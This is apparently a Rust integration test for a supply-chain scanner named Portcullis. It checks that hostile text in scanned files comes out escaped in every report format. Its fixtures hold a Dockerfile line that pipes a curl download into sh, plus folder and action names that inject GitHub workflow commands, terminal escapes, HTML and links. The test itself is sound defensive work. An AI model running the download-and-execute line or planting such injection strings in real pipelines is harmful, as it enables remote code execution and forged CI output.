//! Hostile text from scanned files — newlines, `%0A`, `::`, escape sequences, bare carriage
//! returns, Markdown and HTML — in a folder name, an action reference and a file that cannot be
//! parsed, through every output Portcullis writes: each format on standard output, standard
//! error, the step summary, the SARIF file and the baseline. The assertions are on the bytes.

mod common;

use std::path::Path;

use common::{bin, write};
use serde_json::Value;

/// A folder name that tries to start a workflow command, and Markdown and HTML.
const DIR: &str = "svc\n::warning::dir%0A<b>`@x`\r\x1b[2J";
/// An action reference that tries everything at once.
const USES: &str =
    "evil/act@v1\x1b[31m\r\n::error::forged%0A<img src=x>`t`[l](https://evil.example)@octocat|p";

fn fixture(root: &Path) {
    write(
        root,
        &format!("{DIR}/Dockerfile"),
        "FROM alpine\nRUN curl -k https://x.example/a | sh\n",
    );
    write(
        root,
        &format!("{DIR}/compose.yaml"),
        "services:\n  app: [unclosed\n",
    );
    // YAML escapes carry the control characters into the value.
    let quoted = serde_json::to_string(USES)
        .unwrap()
        .replace("\\u001b", "\\e");
    write(
        root,
        ".github/workflows/ci.yml",
        &format!(
            "on: push\npermissions: {{}}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: {quoted}\n"
        ),
    );
}

/// Every control character but the newline.
fn assert_no_controls(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    let bad: Vec<char> = text
        .chars()
        .filter(|c| c.is_control() && *c != '\n')
        .collect();
    assert!(bad.is_empty(), "{what} writes {bad:?}: {text}");
}

/// No line is a workflow command or a log-group marker.
fn assert_no_commands(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    for line in text.lines() {
        let line = line.trim_start();
        assert!(
            !line.starts_with("::") && !line.starts_with("##["),
            "{what} starts a workflow command: {line}"
        );
    }
}

/// Undo the Actions toolkit's escaping of a command's message or property.
fn unescape(text: &str) -> String {
    text.replace("%0D", "\r")
        .replace("%0A", "\n")
        .replace("%3A", ":")
        .replace("%2C", ",")
        .replace("%25", "%")
}

#[test]
fn hostile_text_reaches_no_output_as_anything_but_text() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    fixture(root);
    let summary = root.join("summary.md");
    let sarif = root.join("out.sarif");
    let baseline = root.join("baseline.json");
    for format in ["human", "json", "sarif", "github"] {
        let out = bin()
            .current_dir(root)
            .env_clear()
            .env("GITHUB_ACTIONS", "true")
            .args(["scan", "--format", format, "--fail-on", "never"])
            .args(["--online", "--api-url", "http://127.0.0.1:9"])
            .arg("--summary")
            .arg(&summary)
            .arg("--sarif")
            .arg(&sarif)
            .arg("--write-baseline")
            .arg(&baseline)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0), "{format}: {out:?}");
        assert_no_controls(&format!("{format} stderr"), &out.stderr);
        assert_no_commands(&format!("{format} stderr"), &out.stderr);
        assert_no_controls(&format!("{format} stdout"), &out.stdout);
        let stdout = String::from_utf8(out.stdout).unwrap();
        match format {
            "human" => {
                assert_no_commands("human", stdout.as_bytes());
                // Shown, escaped, where the reader expects it.
                assert!(
                    stdout.contains("evil/act@v1\\x1b[31m\\r\\n::error::forged%0A<img src=x>"),
                    "{stdout}"
                );
                assert!(stdout.contains("svc\\n::warning::dir%0A<b>`@x`\\r\\x1b[2J/Dockerfile"));
            }
            "github" => {
                // Every line is one command of Portcullis', whose values decode to the text.
                let mut decoded = Vec::new();
                for line in stdout.lines() {
                    let rest = ["::error ", "::warning ", "::notice "]
                        .iter()
                        .find_map(|p| line.strip_prefix(p))
                        .unwrap_or_else(|| panic!("not an annotation: {line}"));
                    let (properties, message) = rest.split_once("::").unwrap();
                    for property in properties.split(',') {
                        let (key, value) = property.split_once('=').unwrap();
                        assert!(
                            ["file", "line", "col", "endLine", "endColumn", "title"].contains(&key),
                            "{line}"
                        );
                        assert!(!value.contains(':'), "{line}");
                        if key == "file" {
                            decoded.push(unescape(value));
                        }
                    }
                    decoded.push(unescape(message));
                }
                assert!(
                    decoded
                        .iter()
                        .any(|d| d.contains("evil/act@v1\\x1b[31m\r\n::error::forged%0A<img")),
                    "{decoded:?}"
                );
                assert!(
                    decoded
                        .iter()
                        .any(|d| d.ends_with("svc\n::warning::dir%0A<b>`@x`\r\\x1b[2J/Dockerfile")),
                    "{decoded:?}"
                );
            }
            _ => {
                // JSON escapes: the values come back exactly.
                let doc: Value = serde_json::from_str(&stdout).unwrap();
                let text = doc.to_string();
                assert!(text.contains(&serde_json::to_string(DIR).unwrap()[1..DIR.len()]));
                if format == "sarif" {
                    for result in doc["runs"][0]["results"].as_array().unwrap() {
                        let message = result["message"]["text"].as_str().unwrap();
                        // GitHub turns `[text](n)` into a link to a related location.
                        assert!(!message.replace("\\](", "").contains("]("), "{message}");
                    }
                }
            }
        }
        // Files written beside the report.
        for (what, path) in [("sarif file", &sarif), ("baseline", &baseline)] {
            let bytes = std::fs::read(path).unwrap();
            assert_no_controls(what, &bytes);
            serde_json::from_slice::<Value>(&bytes).unwrap();
        }
        let written = std::fs::read_to_string(&summary).unwrap();
        assert_no_controls("summary", written.as_bytes());
        assert_summary_is_inert(&written);
        std::fs::remove_file(&summary).unwrap();
    }
}

/// The step summary renders the hostile values as text: no HTML, link, image, mention or code
/// span of theirs survives.
fn assert_summary_is_inert(summary: &str) {
    for needle in [
        "<img",
        "<b>",
        "](https://evil",
        "://evil",
        "@octocat",
        "@x",
        "\n::",
    ] {
        assert!(
            !summary.contains(needle),
            "summary holds {needle:?}: {summary}"
        );
    }
    for row in summary.lines().filter(|l| l.starts_with("| ")) {
        // A table row keeps its cells: the value's `|` is escaped.
        let unescaped_pipes = row
            .char_indices()
            .filter(|(i, c)| *c == '|' && !row[..*i].ends_with('\\'))
            .count();
        assert!(
            unescaped_pipes == 4 || unescaped_pipes == 5,
            "cells broken: {row}"
        );
        // Backticks of values are escaped; only the rule id is a code span.
        let code_ticks = row
            .char_indices()
            .filter(|(i, c)| *c == '`' && !row[..*i].ends_with('\\'))
            .count();
        assert!(code_ticks <= 2, "code span from a value: {row}");
    }
}
